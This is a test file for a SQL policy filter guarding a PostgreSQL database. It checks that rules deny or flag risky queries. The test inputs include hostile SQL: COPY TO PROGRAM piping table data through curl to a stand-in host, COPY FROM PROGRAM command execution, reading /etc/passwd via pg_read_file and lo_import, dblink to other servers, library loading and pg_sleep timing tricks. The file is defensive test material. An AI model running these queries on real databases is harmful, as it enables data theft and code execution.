-- SPDX-License-Identifier: Apache-2.0

test "copy to program" { send = sql [[COPY orders TO PROGRAM 'curl -d @- evil']], expect = "deny by no-copy-program" }
test "copy from program" { send = sql [[COPY orders FROM PROGRAM 'id']], expect = "deny by no-copy-program" }
test "copy to a file" { send = sql [[COPY orders TO '/tmp/x']], expect = "deny by no-copy-file" }
test "copy to the client" {
  send = sql [[COPY orders TO STDOUT]], expect = { "not by no-copy-file", "not by no-copy-program" },
}
test "read a file" { send = sql [[SELECT pg_read_file('/etc/passwd')]], expect = "deny by no-server-files" }
test "read a file, oddly written" {
  send = sql [[SELECT "pg_catalog" . PG_Read_Binary_File('/etc/passwd')]], expect = "deny by no-server-files",
}
test "list a folder in a subquery" {
  send = sql [[SELECT 1 WHERE 'x' IN (SELECT pg_ls_dir('.'))]], expect = "deny by no-server-files",
}
test "large object from a file" { send = sql [[SELECT lo_import('/etc/passwd')]], expect = "deny by no-server-files" }
test "a table's size is no file" {
  send = sql [[SELECT pg_size_pretty(pg_relation_size('orders'))]], expect = "not by no-server-files",
}
test "dblink" { send = sql [[SELECT * FROM dblink('host=x', 'select 1') AS t(a int)]], expect = "deny by no-other-servers" }
test "dblink in a schema" { send = sql [[SELECT ext.dblink_exec('host=x', 'drop table t')]], expect = "deny by no-other-servers" }
test "load a library" { send = sql [[LOAD 'evil']], expect = "deny by no-code" }
test "create an extension" { send = sql [[CREATE EXTENSION plpython3u]], expect = "deny by no-code" }
test "end somebody's session" { send = sql [[SELECT pg_terminate_backend(42)]], expect = "approve by server-control-needs-approval" }
test "a replication slot" {
  send = sql [[SELECT pg_create_logical_replication_slot('s', 'test_decoding')]], expect = "approve by server-control-needs-approval",
}
test "who is there is no secret" { send = sql [[SELECT pid FROM pg_stat_activity]], expect = "not by server-control-needs-approval" }
test "sleep" { send = sql [[SELECT pg_sleep(10)]], expect = "deny by no-sleep" }
test "sleep in a condition" {
  send = sql [[SELECT 1 FROM orders WHERE CASE WHEN id = 1 THEN pg_sleep_for('1s') IS NULL ELSE true END]], expect = "deny by no-sleep",
}
